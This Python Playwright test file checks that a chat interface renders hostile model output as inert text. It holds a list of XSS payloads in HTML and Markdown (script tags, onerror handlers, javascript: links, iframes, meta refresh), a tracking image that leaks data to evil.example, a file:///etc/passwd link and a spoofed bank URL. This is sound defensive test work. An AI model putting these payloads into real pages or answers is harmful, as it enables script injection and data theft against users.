"""Markdown of models where it is meant ill: nothing runs, loads, navigates or is clickable."""

import pytest
from playwright.async_api import Request, expect

from tests.browser.chatting import Chatting
from tests.browser.rows import Person, Rows
from tests.fakes import ProviderServer

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
JS = "javascript:window.hacked=1"
HTML = f"""\
<script>window.hacked=1</script>
<img src=x onerror="window.hacked=1">
<img srcset="{EVIL}/srcset 1x">
<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
<iframe src="{EVIL}/frame"></iframe>
<meta http-equiv="refresh" content="0;url={EVIL}/meta">
<base href="{EVIL}/">
<style>body{{display:none;background:url({EVIL}/css)}}</style>
<link rel="stylesheet" href="{EVIL}/link.css">
<form action="{EVIL}/form"><input autofocus onfocus="window.hacked=1"><button>Go</button></form>
<svg onload="window.hacked=1"><script>window.hacked=1</script><image href="{EVIL}/svg"/></svg>
<math><mtext><a xlink:href="{JS}">x</a></mtext></math>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<a href="{JS}" onclick="window.hacked=1">raw link</a>
<details open ontoggle="window.hacked=1"><summary>x</summary></details>
<video src="{EVIL}/video" onerror="window.hacked=1" autoplay></video>
<div style="position:fixed;inset:0;background:red">over it all</div>"""
MARKDOWN = f"""\
![tracking]({EVIL}/img?d=secret)
![by reference][pixel]

[pixel]: {EVIL}/reference

[one]({JS}) [two](JaVaScRiPt:window.hacked=1) [three](data:text/html,<script>1</script>)
[four](//evil.example/slashes) [five](vbscript:x) [six](\tjavascript:window.hacked=1)
[seven](java&#115;cript:window.hacked=1) [eight](/settings) [nine](file:///etc/passwd)
[bank.example](https://bank.example@evil.example/login) [x](https://xn--e1awd7f.example/)
[ten](https://) [eleven](http://[) [twelve](https://%zz/) [thirteen][half] <https://[> mailto:x@

![ours](/settings) ![near](x.png) ![none](https://) ![cut short][half]

[half]: ht

<{JS}> <data:text/html,x>

$\\href{{{JS}}}{{formula}}$ $\\includegraphics{{{EVIL}/tex}}$ $\\htmlClass{{x}}{{y}}$
$\\url{{{JS}}}$

```mermaid
%%{{init: {{"securityLevel": "loose"}}}}%%
graph TD; A --> B; click A "{JS}"
```

```html
<script>window.hacked=1</script>
```

| <img src=x onerror="window.hacked=1"> | ![t]({EVIL}/table) |
| --- | --- |
| <script>window.hacked=1</script> | [c]({JS}) |

- <iframe src="{EVIL}/list"></iframe>
  > <img src=x onerror=window.hacked=1>

# <svg onload=window.hacked=1>

Note[^x]

[^x]: <img src=x onerror=window.hacked=1> ![n]({EVIL}/note)
"""

# Everything that is wrong in an answer at any moment, even if the next one mends it.
WATCH = """
window.wrong = [];
const forbidden = "script, iframe, frame, object, embed, base, meta, style, link, form, img, " +
  "image, picture, video, audio, details, button:not([aria-label]), input:not([disabled])";
const look = () => {
  const shown = document.querySelectorAll(".reading");
  for (const area of shown) {
    for (const each of area.querySelectorAll(forbidden)) window.wrong.push(each.outerHTML);
    for (const each of area.querySelectorAll("*")) for (const {name, value} of each.attributes) {
      if (name.startsWith("on") || name === "srcset") window.wrong.push(each.outerHTML);
      const link = ["href", "src", "xlink:href", "action", "data"].includes(name);
      if (link && !/^(https?:\\/\\/|mailto:|#)/.test(value)) window.wrong.push(each.outerHTML);
    }
  }
};
new MutationObserver(look).observe(
  document, {subtree: true, childList: true, attributes: true, characterData: true});
"""


@pytest.fixture
async def strangers(chatting: Chatting) -> list[str]:
    """The requests that leave the host, for as long as the test runs."""
    found: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((chatting.url, "data:", "blob:")):
            found.append(request.url)

    chatting.page.context.on("request", note)
    await chatting.page.add_init_script(WATCH)
    await chatting.page.reload()
    await chatting.alive()
    return found


async def innocent(chatting: Chatting, strangers: list[str], url: str) -> None:
    assert await chatting.page.evaluate("window.hacked") is None
    assert await chatting.page.evaluate("[...new Set(window.wrong)]") == []
    assert strangers == []
    assert chatting.page.url == url


@pytest.mark.parametrize("size", [1, 3, 11, 10_000])
@pytest.mark.parametrize("text", [HTML, MARKDOWN], ids=["html", "markdown"])
async def test_nothing_happens_at_any_moment_of_the_stream(
    chatting: Chatting, providers: ProviderServer, strangers: list[str], text: str, size: int
) -> None:
    tokens = [text[at : at + size] for at in range(0, len(text), size)]
    await providers.set(tokens=tokens, tokens_per_second=0 if size > 11 else 700)
    answer = await chatting.answered("Be evil")
    url = chatting.page.url
    await expect(answer.locator(".reading")).to_contain_text("window.hacked=1")
    await innocent(chatting, strangers, url)
    await chatting.page.reload()
    await expect(answer.locator(".reading")).to_contain_text("window.hacked=1")
    if text == HTML:
        # It is shown as what it is.
        for line in HTML.splitlines():
            await expect(answer.locator(".reading")).to_contain_text(line)
    # Whatever can be clicked opens apart and says where it leads.
    for link in await answer.locator(".reading a:not([href^='#'])").all():
        assert await link.get_attribute("target") == "_blank"
        assert "noopener noreferrer" in (await link.get_attribute("rel") or "")
        assert (await link.get_attribute("href") or "").startswith(("https://", "mailto:"))
    await innocent(chatting, strangers, url)


async def test_links_say_their_true_host(
    chatting: Chatting, providers: ProviderServer, strangers: list[str]
) -> None:
    await providers.set(text=MARKDOWN)
    answer = (await chatting.answered("Be evil")).locator(".reading")
    await expect(answer).to_contain_text("bank.example (evil.example)")
    for word in ("one", "two", "three", "four", "five", "seven", "eight", "nine", "ten"):
        await expect(answer.get_by_text(word, exact=True)).to_be_visible()
        await expect(answer.get_by_role("link", name=word, exact=True)).to_have_count(0)
    # An image is a link, and nothing is loaded until it is followed.
    image = answer.get_by_role("link", name="tracking")
    await expect(image).to_have_attribute("href", f"{EVIL}/img?d=secret")
    assert strangers == []


async def test_hostile_questions_and_titles_are_text(
    chatting: Chatting, providers: ProviderServer, strangers: list[str], rows: Rows, person: Person
) -> None:
    text = "<img src=x onerror=window.hacked=1> **not bold** {{7*7}} ${7*7} %s [x](" + JS + ")"
    await chatting.answered(text)
    url = chatting.page.url
    await expect(chatting.questions).to_contain_text(text)
    await expect(chatting.questions.locator("img, strong, a")).to_have_count(0)
    await expect(chatting.nav.get_by_role("listitem").first).to_contain_text("<img src=x")
    await expect(chatting.nav.locator("img")).to_have_count(0)
    await chatting.open(await rows.chat(person, HTML, "ok", title=HTML[:190]))
    await expect(chatting.questions).to_contain_text("window.hacked=1")
    await innocent(chatting, strangers, chatting.page.url)
    assert url != chatting.page.url
